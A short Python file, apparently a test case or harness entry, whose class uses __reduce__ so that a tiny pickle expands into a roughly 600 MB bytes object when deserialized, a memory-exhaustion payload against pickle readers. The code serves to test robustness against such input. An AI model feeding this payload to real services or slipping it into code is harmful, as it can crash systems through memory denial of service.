# Answers with a small pickle that becomes a huge object where it is read.
# rule: 3
# fools: pickle
# success: memory
# with: every


class Swells:
    def __reduce__(self):
        return bytes.__mul__, (b"full", 150 << 20)


def trick(*args):
    return Swells()
